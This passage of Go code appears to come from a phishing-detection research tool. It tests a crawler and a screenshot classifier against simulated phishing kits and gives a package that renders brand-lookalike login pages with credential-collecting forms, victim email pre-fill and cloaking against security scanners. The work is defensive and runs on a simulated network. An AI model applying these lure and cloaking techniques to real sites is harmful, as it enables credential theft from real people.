	legit, err := br1.Visit(context.Background(), legitURL)
	if err != nil {
		t.Fatal(err)
	}
	br2 := newBrowser(net, 2)
	phish, err := br2.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	m := imaging.DefaultMatcher()
	if ok, dp, dd := m.Match(imaging.Sign(legit.Screenshot), imaging.Sign(phish.Screenshot)); !ok {
		t.Errorf("hue-rotate must not defeat the classifier: pHash=%d dHash=%d", dp, dd)
	}
}

func TestDelayedActivationSite(t *testing.T) {
	net := newNet()
	site := Deploy(net, SiteConfig{
		Host:       "nightsend.buzz",
		Brand:      BrandMicrosoft,
		ActivateAt: _epoch.Add(8 * time.Hour),
	})
	br := newBrowser(net, 1)
	res, err := br.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res.DOM) {
		t.Error("pre-activation scan must see the benign page")
	}
	net.Clock.Advance(9 * time.Hour)
	br2 := newBrowser(net, 2)
	res2, err := br2.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res2.DOM) {
		t.Error("post-activation visit must see the phish")
	}
}

func TestHTMLAttachmentVariants(t *testing.T) {
	net := newNet()
	// Media host for external resources.
	mIP := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("gyazo.example", mIP)
	net.Serve("gyazo.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("img")}
	})
	site := Deploy(net, SiteConfig{Host: "attach-target.buzz", Brand: BrandExcel})

	br := newBrowser(net, 1)
	local := HTMLAttachment(site.LandingURL, "gyazo.example", false)
	res, err := br.LoadHTML(context.Background(), local, "invoice.html")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(res.FinalURL, "file:///") {
		t.Errorf("local variant must keep the window URL, got %q", res.FinalURL)
	}
	var hitTarget, hitMedia bool
	for _, r := range res.Requests {
		if strings.Contains(r.URL, "attach-target.buzz") {
			hitTarget = true
		}
		if strings.Contains(r.URL, "gyazo.example") {
			hitMedia = true
		}
	}
	if !hitTarget || !hitMedia {
		t.Errorf("attachment requests = %+v", res.Requests)
	}

	br2 := newBrowser(net, 2)
	redirecting := HTMLAttachment(site.LandingURL, "gyazo.example", true)
	res2, err := br2.LoadHTML(context.Background(), redirecting, "doc.html")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res2.FinalURL, "attach-target.buzz") {
		t.Errorf("redirect variant final = %q", res2.FinalURL)
	}
}

func TestScannerIPBlockedSite(t *testing.T) {
	net := newNet()
	site := Deploy(net, SiteConfig{
		Host:            "ipblock.buzz",
		Brand:           BrandMicrosoft,
		BlockScannerIPs: true,
	})
	scanner := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPSecurityVendor), 1)
	res, err := scanner.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res.DOM) {
		t.Error("security-vendor IP must be cloaked")
	}
	victim := newBrowser(net, 2) // mobile IP
	res2, err := victim.Visit(context.Background(), site.LandingURL)
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res2.DOM) {
		t.Error("mobile IP must see the phish")
	}
}
