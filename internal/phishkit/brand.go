// Package phishkit builds and deploys phishing sites the way the corpus
// kits do: brand-lookalike login pages assembled from shared templates
// (phishing kits share 90%+ of their source, per Merlo et al.), wrapped in
// configurable server-side and client-side cloaking layers, optionally
// gated behind Turnstile with reCAPTCHA running in the background, and
// hot-loading logos from the impersonated organization's own servers.
//
// The same templates also deploy the *legitimate* brand sites, so the
// spear-phishing classifier compares real screenshots against real clones.
package phishkit

import (
	"fmt"
	"strings"

	"crawlerbox/internal/webnet"
)

// Brand describes an impersonated organization.
type Brand struct {
	// Name is the display name on the login page.
	Name string
	// Domain is the organization's legitimate domain.
	Domain string
	// Accent is the brand color as #rrggbb.
	Accent string
	// Tagline appears under the login form.
	Tagline string
	// BannerH is the header banner height in CSS pixels; real login pages
	// differ structurally, and the screenshot classifier relies on that.
	BannerH int
	// FillerRows adds brand-specific content rows above the form.
	FillerRows int
	// DarkTheme renders the page on a dark background.
	DarkTheme bool
}

// The five companies under study (synthetic identities preserving the
// paper's sector mix: travel technology, travel platform, content
// aggregation, transportation, payments).
var (
	BrandAcmeTravelTech = Brand{Name: "ACME TRAVELTECH", Domain: "acmetraveltech.example",
		Accent: "#1a3c8c", Tagline: "GLOBAL TRAVEL TECHNOLOGY", BannerH: 44, FillerRows: 0}
	BrandSkyBooker = Brand{Name: "SKYBOOKER", Domain: "skybooker.example",
		Accent: "#0a7d4f", Tagline: "BOOK SMARTER", BannerH: 20, FillerRows: 3, DarkTheme: true}
	BrandFareWell = Brand{Name: "FAREWELL CONTENT", Domain: "farewell-content.example",
		Accent: "#7a1f6e", Tagline: "CONTENT AGGREGATION", BannerH: 64, FillerRows: 1}
	BrandTransitGo = Brand{Name: "TRANSITGO", Domain: "transitgo.example",
		Accent: "#b35309", Tagline: "MOVE ANYWHERE", BannerH: 14, FillerRows: 5}
	BrandPayRoute = Brand{Name: "PAYROUTE", Domain: "payroute.example",
		Accent: "#8c1a1a", Tagline: "PAYMENTS DONE RIGHT", BannerH: 90, FillerRows: 2, DarkTheme: true}
)

// StudyBrands lists the five protected companies.
var StudyBrands = []Brand{
	BrandAcmeTravelTech, BrandSkyBooker, BrandFareWell, BrandTransitGo, BrandPayRoute,
}

// SaaS brands impersonated by the non-targeted campaigns of Section V-B.
var (
	BrandMicrosoft = Brand{Name: "MICROSOFT", Domain: "microsoft-login.example",
		Accent: "#00188f", Tagline: "SIGN IN TO CONTINUE", BannerH: 30, FillerRows: 2}
	BrandExcel = Brand{Name: "MICROSOFT EXCEL", Domain: "excel-online.example",
		Accent: "#1d6f42", Tagline: "OPEN SHARED WORKBOOK", BannerH: 52, FillerRows: 4, DarkTheme: true}
	BrandOneDrive = Brand{Name: "ONEDRIVE", Domain: "onedrive-share.example",
		Accent: "#0364b8", Tagline: "A FILE WAS SHARED WITH YOU", BannerH: 74, FillerRows: 0}
	BrandOffice365 = Brand{Name: "OFFICE 365", Domain: "office365-portal.example",
		Accent: "#d83b01", Tagline: "YOUR SESSION EXPIRED", BannerH: 16, FillerRows: 6}
	BrandDocuSign = Brand{Name: "DOCUSIGN", Domain: "docusign-review.example",
		Accent: "#d6a400", Tagline: "REVIEW AND SIGN", BannerH: 40, FillerRows: 3, DarkTheme: true}
	BrandGenericWebmail = Brand{Name: "WEBMAIL", Domain: "webmail-portal.example",
		Accent: "#555555", Tagline: "MAILBOX STORAGE FULL", BannerH: 100, FillerRows: 1}
)

// SaaSBrands lists the non-targeted impersonation set.
var SaaSBrands = []Brand{
	BrandMicrosoft, BrandExcel, BrandOneDrive, BrandOffice365,
	BrandDocuSign, BrandGenericWebmail,
}

// LoginPageOptions tunes the shared login template.
type LoginPageOptions struct {
	// PostURL is the form action (the credential collector).
	PostURL string
	// LogoURL is the logo <img> source. Hot-loading kits point it at the
	// impersonated brand's real asset server.
	LogoURL string
	// VictimEmail pre-fills the email field (tokenized spear phish).
	VictimEmail string
	// ExtraHead is injected verbatim into <head> (cloak scripts).
	ExtraHead string
	// ExtraBodyScripts are appended before </body>.
	ExtraBodyScripts []string
}

// LoginPageHTML renders the shared login-page template for a brand. The
// legitimate site and every kit clone use this same structure, which is
// what makes perceptual-hash matching meaningful.
func LoginPageHTML(b Brand, opts LoginPageOptions) string {
	var sb strings.Builder
	sb.WriteString("<html><head><title>")
	sb.WriteString(b.Name)
	sb.WriteString(" - Sign In</title>")
	sb.WriteString(opts.ExtraHead)
	if b.DarkTheme {
		sb.WriteString(`</head><body style="background:#222222">` + "\n")
	} else {
		sb.WriteString("</head><body>\n")
	}
	bannerH := b.BannerH
	if bannerH == 0 {
		bannerH = 28
	}
	fmt.Fprintf(&sb, `<div style="background:%s;height:%dpx;color:white">%s</div>`+"\n", b.Accent, bannerH, b.Name)
	for i := 0; i < b.FillerRows; i++ {
		fmt.Fprintf(&sb, `<div style="background:%s;height:10px"></div>`+"\n", dimAccent(b.Accent, i))
	}
	if opts.LogoURL != "" {
		fmt.Fprintf(&sb, `<img src="%s" alt="logo">`+"\n", opts.LogoURL)
	}
	post := opts.PostURL
	if post == "" {
		post = "/session"
	}
	fmt.Fprintf(&sb, `<form action="%s" method="post">`+"\n", post)
	fmt.Fprintf(&sb, `<input type="email" name="email" placeholder="email" value="%s">`+"\n", opts.VictimEmail)
	sb.WriteString(`<input type="password" name="password" placeholder="password">` + "\n")
	fmt.Fprintf(&sb, `<button style="background:%s;color:white">SIGN IN</button>`+"\n", b.Accent)
	sb.WriteString("</form>\n")
	fmt.Fprintf(&sb, `<div style="color:gray">%s</div>`+"\n", b.Tagline)
	for _, script := range opts.ExtraBodyScripts {
		sb.WriteString("<script>")
		sb.WriteString(script)
		sb.WriteString("</script>\n")
	}
	sb.WriteString("</body></html>")
	return sb.String()
}

// dimAccent derives a related filler color from the accent for visual
// variety between brand rows.
func dimAccent(accent string, i int) string {
	if len(accent) != 7 {
		return accent
	}
	shift := byte('1' + i%8)
	return string([]byte{accent[0], accent[1], shift, accent[3], shift, accent[5], accent[6]})
}

// DeployBrandSite serves a brand's legitimate login page and static assets
// (logo) on its own domain, and returns the login URL.
func DeployBrandSite(net *webnet.Internet, b Brand) string {
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS(b.Domain, ip)
	logoBody := []byte("LOGO:" + b.Name)
	net.Serve(b.Domain, func(req *webnet.Request) *webnet.Response {
		switch req.Path {
		case "/login":
			html := LoginPageHTML(b, LoginPageOptions{
				LogoURL: "https://" + b.Domain + "/assets/logo.png",
				PostURL: "https://" + b.Domain + "/session",
			})
			return &webnet.Response{Status: 200,
				Headers: map[string]string{"Content-Type": "text/html"},
				Body:    []byte(html)}
		case "/assets/logo.png", "/assets/background.png":
			return &webnet.Response{Status: 200,
				Headers: map[string]string{"Content-Type": "image/png"},
				Body:    logoBody}
		case "/session":
			return &webnet.Response{Status: 302,
				Headers: map[string]string{"Location": "/dashboard"}}
		default:
			return &webnet.Response{Status: 200,
				Body: []byte("<html><body>" + b.Name + "</body></html>")}
		}
	})
	return "https://" + b.Domain + "/login"
}
